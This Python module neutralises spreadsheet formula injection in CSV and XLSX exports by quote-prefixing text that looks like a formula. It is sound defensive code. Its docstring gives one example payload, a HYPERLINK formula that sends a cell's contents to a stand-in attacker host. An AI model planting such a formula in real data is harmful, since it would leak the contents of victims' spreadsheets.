"""Cells of every CSV and XLSX file the hub writes, safe from formula injection.

A record's text (a member's name, a request's title) is typed by people; a value such
as ``=HYPERLINK("http://ev.il/?"&E2,"x")`` would run as a formula in the spreadsheet of
whoever opens the export. As OWASP recommends, text starting with ``= + - @``, a tab or
a carriage return is neutralised:

- in CSV it gets a leading single quote (``'=HYPERLINK(…)``), which Excel, LibreOffice
  and WPS show as text;
- in XLSX it is written as a string cell with Excel's quote-prefix style, exactly what
  Excel stores when a person types ``'=…``: the text stays unchanged, and editing the
  cell keeps it text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_text(value: Any) -> str:
    """The text of a cell: ``""`` for None."""
    return "" if value is None else str(value)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> str:
    """A CSV cell: a formula-like text gets a leading single quote."""
    text = cell_text(value)
    return f"'{text}" if is_formula_like(text) else text


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(value) for value in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` (a write-only or normal openpyxl worksheet): texts, and
    formula-like texts as string cells with the quote prefix (never formulas)."""
    from openpyxl.cell import WriteOnlyCell  # openpyxl only when a sheet is written

    row: list[Any] = []
    for value in values:
        text = cell_text(value)
        if is_formula_like(text):
            cell = WriteOnlyCell(sheet, value=text)
            cell.data_type = "s"  # openpyxl makes any text starting with "=" a formula
            cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(text)
    return row
